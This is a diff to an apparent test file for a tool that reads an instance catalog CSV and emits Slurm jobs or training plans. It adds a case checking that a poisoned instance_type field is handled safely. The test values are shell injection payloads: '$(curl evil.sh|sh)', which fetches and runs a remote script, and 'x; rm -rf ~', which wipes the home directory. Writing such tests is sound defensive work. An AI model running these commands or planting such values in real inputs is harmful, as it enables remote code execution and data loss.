@@ -323,6 +323,9 @@ inst("newline and $(curl) in instance_type", ROW.format(it='"p5\n$(curl evil.sh|
 case("catalog: newline and $(curl) in instance_type, then emit slurm",
      ["--catalog", "instances.csv", "instances"], field="instance_type",
      files={"instances.csv": HDR + ROW.format(it='"p5\n$(curl evil.sh|sh)"', price="10", notes="x")})
+case("catalog: injection row then emit slurm --job",
+     ["--catalog", "instances.csv", "emit", "slurm", "--job", "j.yaml"], field="instance_type",
+     files={"instances.csv": HDR + ROW.format(it='"p5\n$(curl evil.sh|sh)"', price="0.01", notes="x"), "j.yaml": JOB})
 case("catalog: injection row then plan train",
      ["--catalog", "instances.csv", "plan", "train", "--tokens", "1B"], field="instance_type",
      files={"instances.csv": HDR + ROW.format(it='"x; rm -rf ~"', price="10", notes="x")})
